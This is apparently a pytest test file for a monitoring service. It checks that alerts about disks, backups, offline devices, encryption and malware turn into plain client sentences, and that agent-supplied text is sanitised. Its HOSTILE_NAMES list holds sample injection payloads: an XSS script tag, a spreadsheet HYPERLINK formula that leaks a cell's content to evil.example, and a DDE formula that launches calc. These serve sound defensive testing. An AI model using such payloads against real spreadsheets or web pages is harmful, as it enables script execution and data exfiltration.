"""Each rule's client sentence: plain words for a business owner from the alert's details, and hostile text
(markup, spreadsheet formulas, control characters, page-long strings) neutralised on the way."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from collector.billing.sentences import SENTENCE_LIMIT, VALUE_LIMIT, clean, client_sentence
from collector.rules import Outcome, alert_rule, rules_by_kind
from collector.store import AlertOwner, AlertRow

AT = datetime(2026, 7, 14, 10, 0, tzinfo=UTC)


def alert(rule: str, subject: str, details: dict[str, Any], severity: str = "warning",
          hostname: str = "BOOKKEEPER-PC", site: str = "Main office", state: str = "open") -> AlertRow:
    """An alert as the store returns it."""
    return AlertRow(
        alert_id=7, fingerprint=f"{rule}|a1|{subject}", rule=rule,
        owner=AlertOwner("a1", 1, "Acme Tooling", site, hostname), subject=subject, severity=severity,  # type: ignore[arg-type]
        state=state, summary="RAW SUMMARY: Reallocated_Sector_Ct=12", details=details,  # type: ignore[arg-type]
        opened_at=AT, last_seen_at=AT, resolved_at=None, occurrences=1,
    )


CASES: list[tuple[AlertRow, Outcome | None, str]] = [
    (alert("disk_health", "disk:S3Z1", {"model": "ST1000", "serial": "S3Z1", "reasons": ["SMART failed"]},
           "critical"), "replaced",
     "A failing disk in BOOKKEEPER-PC was found and replaced before it lost any data."),
    (alert("disk_health", "disk:S3Z1", {"model": "ST1000", "reasons": ["12 reallocated sectors"]}), None,
     "A disk showing early signs of wear in BOOKKEEPER-PC was found."),
    (alert("disk_health", "disk:S3Z1", {"missing": True}, "critical", state="resolved"), None,
     "A disk in BOOKKEEPER-PC stopped answering; it was found and put right."),
    (alert("disk_health", "fs:C:", {"mount": "C:", "free_bytes": 1, "total_bytes": 100}), "resolved",
     "The drive C: on BOOKKEEPER-PC was running out of space; space was freed before it filled up."),
    (alert("disk_health", "raid:md0", {"array": "md0"}, "critical"), None,
     "The disk array md0 on BOOKKEEPER-PC lost a disk's protection; it was found."),
    (alert("backup_results", "backup:nightly", {"name": "nightly", "last_result": "failed"}, "critical"),
     "resolved", "The backup \u201cnightly\u201d on BOOKKEEPER-PC failed; we fixed it and it runs again."),
    (alert("backup_results", "backup:nightly", {"name": "nightly", "integrity_error": "pack 3f damaged"},
           "critical"), None,
     "The backup \u201cnightly\u201d on BOOKKEEPER-PC was found damaged when we checked it."),
    (alert("heartbeat.offline", "device", {"silent_seconds": 900}, "critical", hostname="FRONT-DESK"), "resolved",
     "FRONT-DESK went offline (switched off or cut off from the network); it is back online."),
    (alert("heartbeat.offline", "device", {"device_class": "workstation"}, hostname="FRONT-DESK"), None,
     "FRONT-DESK was not on during business hours."),
    (alert("heartbeat.site_offline", "site", {"silent": ["A", "B", "C"], "total": 4}, "critical", hostname=""),
     None, "3 of 4 devices at Main office went offline at once, most likely a power cut or an internet outage."),
    (alert("heartbeat.refused", "reports", {"refused_reports": 3}), None,
     "The monitoring on BOOKKEEPER-PC needed a repair to keep reporting."),
    (alert("heartbeat.outbox", "outbox", {"outbox_warning": "damaged"}), "resolved",
     "The monitoring on BOOKKEEPER-PC needed a repair to keep reporting; it was repaired."),
    (alert("pending_reboot", "reboot", {"pending_seconds": 400000}, hostname="FRONT-DESK"), "resolved",
     "Updates on FRONT-DESK finished after a restart we scheduled."),
    (alert("pending_reboot.not_cleared", "reboot-not-cleared", {"not_cleared": []}), None,
     "Updates on BOOKKEEPER-PC did not finish after a restart."),
    (alert("updates.security", "security-updates", {"security_count": 12, "packages": ["openssl"]}), "resolved",
     "12 security updates that had been waiting on BOOKKEEPER-PC were installed."),
    (alert("updates.package_index", "package-index", {"manager": "apt"}), None,
     "BOOKKEEPER-PC had stopped checking for new updates."),
    (alert("printer_ip_conflict", "ip:192.168.1.20",
           {"ip": "192.168.1.20", "queues": [{"hostname": "FRONT-DESK", "queue": "Reception printer"}]},
           hostname=""), "resolved",
     "Another device was using the network address of the printer \u201cReception printer\u201d at Main office, "
     "so printing could fail; we gave it an address of its own."),
    (alert("encryption", "system-volume", {"mechanism": "bitlocker", "volume": "C:"}, hostname="LAPTOP-3"),
     "resolved", "The system disk of LAPTOP-3 was not encrypted, so a lost or stolen device would expose its data; "
     "it is encrypted now."),
    (alert("encryption.recovery", "recovery", {"mechanism": "filevault"}, hostname="MACBOOK-1"), None,
     "The encrypted disk of MACBOOK-1 had no recovery key, so a forgotten password would lose its data."),
    (alert("encryption.escrow", "escrow", {"mechanism": "bitlocker", "volume": "C:"}, hostname="LAPTOP-3"),
     "resolved", "The recovery key of LAPTOP-3's disk could not be kept safe with us; it is escrowed now."),
    (alert("security_center.protection", "antivirus:Microsoft Defender", {"name": "Microsoft Defender"}),
     "resolved", "The antivirus (Microsoft Defender) on BOOKKEEPER-PC was off or out of date; it is back on."),
    (alert("security_center.protection", "firewall:Public", {"name": "Public"}), None,
     "The firewall on BOOKKEEPER-PC was switched off."),
    (alert("security_center.detection", "detection:e1", {"threat": "Trojan:Win32/Emotet"}, "critical"), None,
     "Malware (Trojan:Win32/Emotet) was found on BOOKKEEPER-PC and had not been removed yet."),
    (alert("security_center.burst", "site", {"detections": 4}, hostname=""), "resolved",
     "Several devices at Main office detected malware within an hour; the source was found and dealt with."),
    (alert("reachability", "device:Recorder", {"name": "Recorder", "kind": "camera_recorder"}, "critical",
           hostname=""), None,
     "The camera recorder \u201cRecorder\u201d at Main office stopped answering on the network."),
    (alert("reachability", "device:NAS", {"name": "NAS", "kind": "nas"}, "critical", hostname=""), "resolved",
     "The NAS \u201cNAS\u201d at Main office stopped answering on the network; it is back."),
    (alert("reachability.certificate", "certificate:NAS", {"name": "NAS"}, hostname=""), "resolved",
     "The security certificate of \u201cNAS\u201d at Main office was about to expire; it was renewed."),
    (alert("unknown", "disk_health", {"check": "disk_health", "error": "smartctl: not found"}), None,
     "One of the monitoring checks on BOOKKEEPER-PC stopped working."),
]


@pytest.mark.parametrize(("row", "outcome", "expected"), CASES, ids=[f"{c[0].rule}-{i}" for i, c in enumerate(CASES)])
def test_each_rule_says_what_it_caught_in_plain_words(row: AlertRow, outcome: Outcome | None, expected: str) -> None:
    assert client_sentence(row, outcome) == expected


def test_every_alert_rule_of_every_signal_has_a_sentence_and_a_case_here() -> None:
    rules = {rule.name for spec in rules_by_kind().values() for rule in spec.alerts}
    assert {name for name in rules if alert_rule(name).sentence is None} == set()
    assert rules == {row.rule for row, _, _ in CASES}


def test_a_rule_without_a_sentence_or_with_odd_details_gets_the_safe_generic_one() -> None:
    collector_own = alert("collector.disk_space", "db", {}, "critical", hostname="", site="")
    assert client_sentence(collector_own) == "A serious problem was found by our monitoring."
    # Details an older agent shaped differently (a count as text, queues as a string) still make a sentence.
    odd = alert("printer_ip_conflict", "ip:x", {"queues": "Reception"}, hostname="")
    assert client_sentence(odd, "resolved").startswith("Two devices at Main office were using the same")
    broken = alert("heartbeat.site_offline", "site", {"silent": 3, "total": "four"}, "critical")
    assert client_sentence(broken).startswith("Most devices at Main office went offline at once")


HOSTILE_NAMES = [
    '<script>alert(1)</script><img src=x onerror=alert(2)>',
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)\r\n-2+3\tx",
    "WS\u202e-03\u0000\u200b\x1b[31m",
    "A" * 5000,
    "word " * 2000,
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_text_from_the_agent_reaches_the_sentence_as_one_short_line_of_text(name: str) -> None:
    rows = [
        alert("backup_results", f"backup:{name}", {"name": name, "last_result": "failed"}, "critical", hostname=name),
        alert("printer_ip_conflict", "ip:x", {"queues": [{"queue": name}]}, hostname="", site=name),
        alert("disk_health", f"fs:{name}", {"mount": name}, hostname=name),
        alert("no.such.rule", name, {name: name}, hostname=name),
    ]
    for row in rows:
        sentence = client_sentence(row)
        assert len(sentence) <= SENTENCE_LIMIT
        assert sentence[:1].isalpha() or sentence[:1].isdigit(), sentence  # never a formula sign first
        assert all(c.isprintable() for c in sentence), repr(sentence)
        assert "\u202e" not in sentence and "\n" not in sentence
        # Every name taken from the alert is bounded on its own, so one long name cannot crowd out the rest.
        assert " on " in sentence or " at " in sentence or sentence.startswith("A problem")
        assert "RAW SUMMARY" not in sentence


def test_clean_makes_one_line_without_formula_signs_and_cuts_at_a_word() -> None:
    assert clean("=+-@ =SUM(A1)\n\n next\tline") == "SUM(A1) next line"
    assert clean("\u202eevil\u0000 name") == "evil name"
    cut = clean("backup " * 30)
    assert len(cut) <= VALUE_LIMIT and cut.endswith("backup…")
    assert clean("x" * 500).endswith("…") and len(clean("x" * 500)) == VALUE_LIMIT
